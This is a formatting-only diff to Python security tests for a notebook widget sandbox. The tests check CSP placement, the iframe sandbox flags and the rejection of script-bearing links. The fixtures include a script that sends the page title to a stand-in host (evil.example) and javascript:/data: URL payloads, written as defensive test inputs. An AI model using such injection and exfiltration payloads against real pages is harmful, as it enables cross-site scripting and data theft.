@@ -39,7 +39,9 @@ def test_a_script_written_before_the_head_runs_under_the_policy() -> None:
     document = "<script>fetch('https://evil.example/?'+document.title)</script><html><head></head></html>"
     made = srcdoc(document, policy(None))
     assert made.index("Content-Security-Policy") < made.index("<script")
-    assert made.index("Content-Security-Policy") < made.lower().index("<head>", len("<!DOCTYPE html><html>") + 1)
+    assert made.index("Content-Security-Policy") < made.lower().index(
+        "<head>", len("<!DOCTYPE html><html>") + 1
+    )
 
 
 def test_declared_domains_cannot_add_sources_or_directives() -> None:
@@ -62,7 +64,7 @@ def test_the_frame_never_shares_the_pages_origin() -> None:
     assert "allow-same-origin" not in view.frame.sandbox
     # The front end applies nothing else, whatever the kernel's state says.
     script = (Path(mcp_notebook.__file__).parent / "widgets" / "_app.js").read_text()
-    assert 'return value === SANDBOX ? value : SANDBOX;' in script
+    assert "return value === SANDBOX ? value : SANDBOX;" in script
 
 
 def test_permissions_are_not_granted_by_asking() -> None:
@@ -73,7 +75,12 @@ def test_permissions_are_not_granted_by_asking() -> None:
 
 def test_a_link_cannot_run_script_in_the_page() -> None:
     view = view_of()
-    for url in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>", "vbscript:x"):
+    for url in (
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "data:text/html,<script>1</script>",
+        "vbscript:x",
+    ):
         ask(view, 1, "ui/open-link", {"url": url})
     assert view.frame.notes == []
     assert {answer["error"]["code"] for answer in view.answers} == {-32602}
